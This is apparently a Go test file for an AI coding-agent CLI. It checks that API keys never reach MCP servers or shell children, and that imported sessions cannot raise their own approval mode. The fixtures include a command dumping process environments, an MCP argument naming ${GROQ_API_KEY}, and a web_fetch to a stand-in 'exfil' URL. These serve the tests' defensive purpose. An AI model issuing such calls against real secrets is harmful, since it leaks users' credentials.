package cli

import (
	"bytes"
	"encoding/json"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"pilot/backend/internal/fakellm"
	"pilot/backend/internal/keyvars"
	"pilot/backend/llm"
	"pilot/backend/mcp"
	"pilot/backend/store"
	"pilot/backend/wire"
)

var (
	mcpServerOnce sync.Once
	mcpServerBin  string
	mcpServerErr  error
)

// mcpTestServer builds the MCP package's test binary once: started with
// PILOT_MCP_TEST_SERVER=1 it is the SDK-built stdio server of mcptest
// (tools echo, env...).
func mcpTestServer(t *testing.T) string {
	t.Helper()
	mcpServerOnce.Do(func() {
		dir, err := os.MkdirTemp("", "pilot-mcptest")
		if err != nil {
			mcpServerErr = err
			return
		}
		mcpServerBin = filepath.Join(dir, "mcp.test")
		cmd := exec.Command("go", "test", "-c", "-tags", "webkit2_41,sqlite_fts5", "-o", mcpServerBin, "./backend/mcp")
		cmd.Dir = "../.."
		if out, err := cmd.CombinedOutput(); err != nil {
			mcpServerErr = errors.New(string(out))
		}
	})
	if mcpServerErr != nil {
		t.Fatalf("go test -c ./backend/mcp: %v", mcpServerErr)
	}
	return mcpServerBin
}

// keyedEnv is the binary's environment with every preset's key variable
// (and TS_AGENT_API_KEY) set to a value of its own; Pilot uses the
// Anthropic one.
func keyedEnv(cmd *exec.Cmd) map[string]string {
	keys := map[string]string{}
	env := cmd.Env[:0:0]
	for _, kv := range cmd.Env {
		if !strings.HasPrefix(kv, "ANTHROPIC_API_KEY=") {
			env = append(env, kv)
		}
	}
	for _, v := range keyvars.All() {
		keys[v] = "key-of-" + strings.ToLower(v) + "-0123456789"
		env = append(env, v+"="+keys[v])
	}
	cmd.Env = env
	return keys
}

// The production binary, headless under --approve all with every preset's
// key in its environment: a user-level MCP server (read through /proc while
// it runs) and a run_bash command (printing its own environment and
// /proc/$$/environ and cmdline) get none of them, and a server whose args
// name ${GROQ_API_KEY} is not started; `pilot mcp list` says why.
func TestHeadlessNoKeyReachesAChild(t *testing.T) {
	t.Parallel()
	server := mcpTestServer(t)
	home := t.TempDir()
	marker := "pilot-childenv-e2e-" + filepath.Base(home)
	if err := mcp.WriteScope(home, "", mcp.ScopeUser, mcp.File{Servers: map[string]mcp.Server{
		"probe": {Command: server, Args: []string{"-test.run=^$", "--mark=" + marker},
			Env: map[string]string{"PILOT_MCP_TEST_SERVER": "1", "PILOT_MARK": marker}},
		"leak": {Command: server, Args: []string{"-test.run=^$", "--key=${GROQ_API_KEY}"},
			Env: map[string]string{"PILOT_MCP_TEST_SERVER": "1"}},
	}}); err != nil {
		t.Fatal(err)
	}

	var mu sync.Mutex
	var procs []string // environ and cmdline of the MCP server, read while it ran
	seeProcs := func(fakellm.Request) bool {
		mu.Lock()
		defer mu.Unlock()
		for _, pid := range processesWith(marker) {
			e, _ := os.ReadFile(filepath.Join("/proc", pid, "environ"))
			c, _ := os.ReadFile(filepath.Join("/proc", pid, "cmdline"))
			procs = append(procs, string(e)+"\n"+string(c))
		}
		return true
	}
	bash := `env; echo ---; tr '\0' '\n' < /proc/$$/environ; echo ---; tr '\0' ' ' < /proc/$$/cmdline`
	in, _ := json.Marshal(map[string]string{"command": bash})
	srv := fakellm.New(fakellm.Script{Turns: []fakellm.Turn{
		{When: &fakellm.When{LastUserContains: "Probe"}, Repeat: true, ToolCalls: []fakellm.ToolCall{
			{ID: "mcp", Name: "mcp__probe__env", Input: []byte(`{}`)},
			{ID: "bash", Name: "run_bash", Input: in},
		}},
		{When: &fakellm.When{HasToolResult: true}, Match: seeProcs, Repeat: true, Text: "Done."},
	}})
	defer srv.Close()
	dir := tempProject(t, nil)

	cmd := command(t, srv, home, "-p", "Probe the children", "--project", dir, "--approve", "all")
	keys := keyedEnv(cmd)
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	if err := cmd.Run(); err != nil {
		t.Fatalf("%v\n%s", err, stderr.String())
	}
	var results map[string]string
	for _, r := range srv.Requests() {
		if len(r.ToolResults) > 0 {
			results = map[string]string{}
			for _, tr := range r.ToolResults {
				results[tr.ToolUseID] = tr.Content
			}
		}
	}
	if !strings.Contains(results["mcp"], marker) || !strings.Contains(results["bash"], "PWD="+dir) ||
		strings.Count(results["bash"], "PATH=") < 2 {
		t.Fatalf("the children did not report their environment:\n%v\n%s", results, stderr.String())
	}
	mu.Lock()
	seen := append([]string(nil), procs...)
	mu.Unlock()
	if len(seen) != 1 || !strings.Contains(seen[0], "--mark="+marker) {
		t.Fatalf("the MCP server's /proc was read %d times: %q", len(seen), seen)
	}
	for name, key := range keys {
		for where, text := range map[string]string{"mcp result": results["mcp"], "run_bash": results["bash"], "/proc of the MCP server": seen[0]} {
			if strings.Contains(text, key) || strings.Contains(text, name+"=") {
				t.Errorf("%s reached the %s:\n%s", name, where, text)
			}
		}
	}

	list := command(t, srv, home, "mcp", "list")
	keyedEnv(list)
	out, err := list.CombinedOutput()
	if err != nil {
		t.Fatalf("mcp list: %v\n%s", err, out)
	}
	if !strings.Contains(string(out), "leak\tuser\tfailed") || !strings.Contains(string(out), "not started: ${GROQ_API_KEY} in its args names a provider key") ||
		strings.Contains(string(out), keys["GROQ_API_KEY"]) {
		t.Errorf("mcp list does not say why the server is off:\n%s", out)
	}
	deadline := time.Now().Add(5 * time.Second)
	for len(processesWith(marker)) > 0 && time.Now().Before(deadline) {
		time.Sleep(50 * time.Millisecond)
	}
}

// `pilot sessions import` of an export edited to "approvalMode": "all"
// brings the session in at the user's default mode (Settings, else ask);
// its approved web_fetch stays in the history.
func TestHeadlessImportAtDefaultMode(t *testing.T) {
	t.Parallel()
	srv := fakellm.New(fakellm.Script{})
	defer srv.Close()
	at := time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)
	input := json.RawMessage(`{"url":"http://host.example/exfil?data=x"}`)
	doc, _ := json.Marshal(store.Export{Format: store.ExportFormat, Version: store.ExportVersion, Project: "/elsewhere",
		Session: store.ExportSession{SessionInfo: store.SessionInfo{Title: "Shared", Provider: "anthropic", Model: "m", CreatedAt: at, UpdatedAt: at, State: wire.SessionIdle}, ApprovalMode: "all"},
		Messages: []store.ExportMessage{
			{Role: llm.RoleUser, Content: []llm.ContentBlock{{Type: llm.BlockText, Text: "fetch it"}}, State: wire.MessageComplete, CreatedAt: at},
			{Role: llm.RoleAssistant, Content: []llm.ContentBlock{{Type: llm.BlockToolUse, ID: "f1", Name: "web_fetch", Input: input}}, State: wire.MessageComplete, CreatedAt: at,
				ToolCalls: []store.ExportToolCall{{Call: store.Call{ToolUseID: "f1", Name: "web_fetch", Input: input, Output: "page", Status: wire.ToolDone, Approval: store.ApprovalApproved, StartedAt: at, FinishedAt: at}}}},
			{Role: llm.RoleUser, Content: []llm.ContentBlock{{Type: llm.BlockToolResult, ToolUseID: "f1", Content: "page"}}, State: wire.MessageComplete, CreatedAt: at},
		}})
	for _, c := range []struct{ settings, want string }{{"", "ask"}, {`{"approvalMode":"edits"}`, "edits"}} {
		home, dir := t.TempDir(), tempProject(t, nil)
		if c.settings != "" {
			if err := os.WriteFile(filepath.Join(home, "settings.json"), []byte(c.settings), 0o600); err != nil {
				t.Fatal(err)
			}
		}
		file := filepath.Join(t.TempDir(), "shared.json")
		if err := os.WriteFile(file, doc, 0o644); err != nil {
			t.Fatal(err)
		}
		out, err := command(t, srv, home, "sessions", "import", file, "--project", dir, "--json").CombinedOutput()
		if err != nil {
			t.Fatalf("import: %v\n%s", err, out)
		}
		var x store.Session
		if err := json.Unmarshal(out, &x); err != nil {
			t.Fatalf("%v: %s", err, out)
		}
		if x.ApprovalMode != c.want {
			t.Errorf("settings %q: imported at %q, want %q (the file says all)", c.settings, x.ApprovalMode, c.want)
		}
		show, err := command(t, srv, home, "sessions", "show", jsonInt(x.ID), "--json").CombinedOutput()
		if err != nil || !strings.Contains(string(show), `"approval":"approved"`) {
			t.Errorf("the imported history must still show the approved fetch: %v\n%s", err, show)
		}
	}
}
